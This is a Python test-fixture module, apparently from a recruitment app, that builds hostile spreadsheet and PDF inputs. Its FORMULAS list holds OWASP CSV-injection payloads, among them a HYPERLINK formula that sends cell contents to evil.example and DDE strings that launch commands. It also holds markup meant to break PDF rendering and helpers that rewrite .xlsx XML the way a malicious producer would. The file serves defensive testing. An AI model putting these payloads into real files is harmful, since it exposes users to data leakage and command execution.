"""Hostile input: text that a spreadsheet or a PDF would read as its own (formulas, markup), and
builders of hostile spreadsheet files: a real .xlsx made by openpyxl, then its XML rewritten the
way a broken or malicious producer would write it."""
from __future__ import annotations

import io
import re
import zipfile

from recruitment import tabular

SHEET = "xl/worksheets/sheet1.xml"

# OWASP's CSV-injection payloads, and markup that reportlab would read as its own.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
MARKUP = ['<img src="/server/file.png"/> Lê Văn An', "Trần ‹Thị> Lan", "Trần <Thị> Lan", "Ngô <b>Văn & Minh",
          "Đỗ </para> Thị Hà"]


def rewrite(data: bytes, parts: dict[str, bytes | None]) -> bytes:
    """The same zip with some parts replaced (bytes) or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in parts:
                if parts[info.filename] is not None:
                    dst.writestr(info.filename, parts[info.filename])
            else:
                dst.writestr(info, src.read(info.filename))
        for name, content in parts.items():
            if content is not None and name not in src.namelist():
                dst.writestr(name, content)
    return out.getvalue()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(SHEET).decode()


def with_dimension(data: bytes, ref: str, extra_cells: str = "") -> bytes:
    """The sheet declares `ref` as its size; extra_cells (XML <row>s) are added at the end."""
    xml = sheet_xml(data)
    if "<dimension" in xml:
        xml = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>', xml)
    else:
        xml = xml.replace("<sheetViews>", f'<dimension ref="{ref}"/><sheetViews>', 1)
    if extra_cells:
        xml = xml.replace("</sheetData>", extra_cells + "</sheetData>")
    return rewrite(data, {SHEET: xml.encode()})


def xlsx(headers: list[str], rows: list[list]) -> bytes:
    return tabular.xlsx_bytes([("data", headers, rows)])
